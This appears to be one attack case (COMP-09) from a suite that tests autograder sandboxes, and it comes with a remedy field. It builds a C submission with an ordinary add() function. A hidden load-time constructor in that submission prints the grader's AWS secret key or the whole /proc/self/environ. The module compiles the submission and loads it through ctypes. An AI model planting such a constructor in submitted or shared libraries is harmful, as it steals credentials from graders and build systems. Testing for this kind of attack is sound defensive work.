# SPDX-License-Identifier: MIT
"""Goal:  the credentials in the environment of the grader that tests a C function from Python.
Means: the grader compiles the student's file to a library and loads it with ctypes, to call one
       function. A constructor in it runs on loading, before any call, with all that the grader is.
"""

import ctypes
import os
import subprocess

from attack import DONE, attempting, denied, failed

SOURCE = r"""
#include <stdio.h>
#include <stdlib.h>
int add(int a, int b) { return a + b; }
__attribute__((constructor)) static void before_all_else(void)
{
	const char *key = getenv("AWS_SECRET_ACCESS_KEY");
	FILE *self = key ? NULL : fopen("/proc/self/environ", "r");

	if (key)
		dprintf(1, "%s\n", key);
	for (int c; self && (c = getc(self)) != EOF;)
		dprintf(1, "%c", c);
}
"""


def run(brief):
    for folder in (f"/tmp/{brief.name}.d", f"{brief.name}.d"):
        try:
            os.mkdir(folder, 0o700)
            with open(f"{folder}/answer.c", "w") as file:
                file.write(SOURCE)
            break
        except OSError as error:
            why = error
    else:
        return failed("hand in", why)
    library = os.path.abspath(f"{folder}/answer.so")
    attempting()
    try:
        subprocess.run(["/usr/bin/gcc", "-shared", "-fPIC", f"{folder}/answer.c", "-o", library],
                       check=True)
        print(ctypes.CDLL(library).add(2, 3))
    except (OSError, subprocess.SubprocessError) as error:
        return denied("compile and load", error)
    return DONE


ATTACK = {
    "effect": "the credentials of the grader that loads a student's library",
    "means": "a constructor in a library that the grader opens with ctypes",
    "oracle": "secret:environ",
    "needs": ["cc"],
    "quick": True,
    "id": "COMP-09",
    "attack_id": "T1574, T1552.001, CWE-829",
    "remedy": "a process of its own, with a clean environment, for whatever loads the library",
    "refs": ["dlopen(3), initialization"],
    "run": run,
}
